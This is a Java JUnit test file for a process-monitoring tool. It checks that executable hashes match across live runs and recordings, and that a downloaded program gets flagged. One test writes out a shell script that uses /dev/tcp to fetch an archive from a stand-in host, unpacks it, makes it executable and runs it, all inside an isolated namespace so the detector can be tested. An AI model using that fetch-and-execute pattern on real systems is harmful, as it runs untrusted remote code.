package eyas.conformance;

import static org.assertj.core.api.Assertions.assertThat;

import eyas.capture.CaptureSource;
import eyas.event.Event;
import eyas.event.EventSource;
import eyas.state.State;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Compares the reported properties, hashes and writers of executables: live, in the recording, and from the recording. */
@Tag("kernel")
@Tag("process")
final class ExecutablesKernelTest {
    /**
     * Gives the network namespace, which has only a loopback device, an address that looks external, serves one file there, and lets a
     * shell fetch, unpack and run it.
     */
    private static final String JOB = """
            import fcntl, os, socket, struct, subprocess, sys
            ADDRESS = '198.51.100.1'
            control = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            def device(request, data):
                fcntl.ioctl(control, request, struct.pack('16s24s', b'lo', data))
            device(0x8916, struct.pack('HH4s', socket.AF_INET, 0, socket.inet_aton(ADDRESS)))  # SIOCSIFADDR
            device(0x8914, struct.pack('H', 1))  # SIOCSIFFLAGS: up
            server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            server.bind((ADDRESS, 8000))
            server.listen()
            shell = subprocess.Popen(['/bin/bash', '-c', sys.argv[2]], cwd=sys.argv[1])
            connection, peer = server.accept()
            with open(sys.argv[3], 'rb') as served:
                connection.sendfile(served)
            connection.close()
            sys.exit(shell.wait())
            """;

    private static final String FETCH = """
            exec 3<>/dev/tcp/198.51.100.1/8000
            cat <&3 >archive.gz
            exec 3>&-
            gzip -dc archive.gz >unpacked
            mv unpacked program
            chmod +x program
            ./program
            """;

    @TempDir
    private Path directory;

    @BeforeAll
    static void requireRoot() {
        Privileges.assumeBpfSupport();
    }

    private static String sha256(Path file) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(file)));
    }

    private JsonNode report(String name) throws IOException {
        return JsonMapper.shared().readTree(Files.readAllBytes(directory.resolve(name + "/report.json")));
    }

    /** Returns hash, kind of hash and problem of each executable by path, without scripts. */
    private static Map<String, String> hashes(JsonNode report) {
        Map<String, String> hashes = new TreeMap<>();
        for (JsonNode row : report.get("executables").get("rows")) {
            if (!row.has("script")) {
                hashes.put(
                        row.get("path").asString(),
                        row.path("sha256").asString() + " " + row.get("hash").asString() + " "
                                + row.path("problem").asString());
            }
        }
        return hashes;
    }

    private static JsonNode executable(JsonNode report, Path path) {
        List<JsonNode> rows = new ArrayList<>();
        for (JsonNode row : report.get("executables").get("rows")) {
            if (row.get("path").asString().equals(path.toString())) {
                rows.add(row);
            }
        }
        assertThat(rows).as("rows of %s", path).hasSize(1);
        return rows.getFirst();
    }

    private EyasProcess watch(String... command) throws Exception {
        List<String> words = new ArrayList<>(List.of(
                "watch",
                "--record",
                directory.resolve("job.scap").toString(),
                "--redact",
                "--report",
                directory.resolve("live").toString(),
                "--"));
        words.addAll(List.of(command));
        EyasProcess run = EyasProcess.run(words.toArray(String[]::new));
        assertThat(run.exitCode()).as(run.err()).isZero();
        return run;
    }

    @Test
    void recordingHasSameHashesAsLiveRun() throws Exception {
        Path program = directory.toRealPath().resolve("program");
        Files.copy(Path.of("/bin/sleep").toRealPath(), program);
        Files.setPosixFilePermissions(program, PosixFilePermissions.fromString("rwxr-xr-x"));
        String hash = sha256(program);

        // On a busy machine, rm could run before the program starts, and the program could exit before it is hashed.
        String job = """
                "$0" 10 &
                until [ "$(readlink /proc/$!/exe)" = "$0" ]; do :; done
                rm "$0"
                wait
                /bin/true
                /bin/true
                """;
        watch("/bin/sh", "-c", job, program.toString());
        EyasProcess analysis = EyasProcess.run(
                "analyze",
                directory.resolve("job.scap").toString(),
                "--output",
                directory.resolve("later").toString());

        assertThat(analysis.exitCode()).as(analysis.err()).isZero();
        JsonNode live = report("live");
        assertThat(executable(live, program).get("sha256").asString()).isEqualTo(hash);
        assertThat(executable(live, program).get("hash").asString()).isEqualTo("at_exec");
        assertThat(executable(live, Path.of("/bin/true").toRealPath())
                        .get("sha256")
                        .asString())
                .isEqualTo(sha256(Path.of("/bin/true")));
        assertThat(hashes(live)).isEqualTo(hashes(report("later")));
        assertThat(Files.readString(directory.resolve("live/executables.csv"))).contains(hash);
        assertThat(Files.readString(directory.resolve("live/report.html"))).contains(hash);
        EyasProcess found = EyasProcess.run(
                "read",
                directory.resolve("job.scap").toString(),
                "-p",
                "%proc.exepath",
                "evt.asynctype = eyas.executable and proc.exe_sha256 = " + hash);
        assertThat(found.out().strip()).isEqualTo(program.toString());
    }

    @Test
    void libsinspReadsRecording() throws Exception {
        LibsinspReader peer = LibsinspReader.compiled();
        watch("/bin/sh", "-c", "/bin/true; echo x >/dev/null");

        List<String> lines = peer.run(List.of(
                "--field",
                "evt.type",
                "--field",
                "proc.exepath",
                directory.resolve("job.scap").toString()));

        String program = Path.of("/bin/true").toRealPath().toString();
        assertThat(lines)
                .anySatisfy(line -> assertThat(line).contains("\"evt.type\":\"execve\"", program))
                .anySatisfy(line -> assertThat(line).contains("\"evt.type\":\"eyas.executable\""))
                .anySatisfy(line -> assertThat(line).contains("\"evt.type\":\"procexit\""));
        long events;
        try (CaptureSource source = CaptureSource.open(directory.resolve("job.scap"))) {
            source.start(new State().snapshot());
            Event event = new Event();
            while (source.next(event) == EventSource.Outcome.EVENT) {
                assertThat(event.isStateOnly()).isFalse();
            }
            events = source.counters().events();
        }
        // The count includes the recording's trailer.
        assertThat(lines.getLast())
                .as("last line of libsinsp's output")
                .startsWith("{\"events\":" + (events + 1) + ",");
    }

    @Test
    void downloadPathIsInReport() throws Exception {
        Path script = Files.writeString(directory.resolve("job.py"), JOB);
        Path archive = directory.resolve("served.gz");
        Process gzip = new ProcessBuilder("/bin/gzip", "-c", "/bin/true")
                .redirectOutput(archive.toFile())
                .start();
        assertThat(gzip.waitFor()).isZero();
        Path work = Files.createDirectory(directory.toRealPath().resolve("work"));

        EyasProcess run = watch(
                "/usr/bin/env",
                "CI=true",
                "/usr/bin/unshare",
                "--net",
                "/usr/bin/python3",
                script.toString(),
                work.toString(),
                FETCH,
                archive.toString());

        JsonNode program = executable(report("live"), work.resolve("program"));
        assertThat(program.get("origin").asString()).isEqualTo("downloaded");
        JsonNode provenance = program.get("provenance");
        assertThat(provenance).hasSize(2);
        assertThat(provenance.get(0).get("program").asString()).isEqualTo("gzip");
        assertThat(provenance.get(1).get("program").asString()).isEqualTo("cat");
        assertThat(provenance.get(1).get("file").asString())
                .isEqualTo(work.resolve("archive.gz").toString());
        assertThat(provenance.get(1).get("connection").asString()).endsWith("->198.51.100.1:8000");
        JsonNode writer = report("live")
                .get("processes")
                .get("rows")
                .get(provenance.get(0).get("process").asInt());
        assertThat(writer.get("name").asString()).isEqualTo("gzip");
        assertThat(program.get("writer").asInt()).isEqualTo(writer.get("id").asInt());
        assertThat(run.err()).contains("Downloaded Program Run |");
        String alerts = Files.readString(directory.resolve("live/alerts.jsonl"), StandardCharsets.UTF_8);
        assertThat(alerts.lines().filter(line -> line.contains("Downloaded Program Run")))
                .hasSize(1)
                .allSatisfy(line -> assertThat(line).contains(work + "/program"));
    }
}
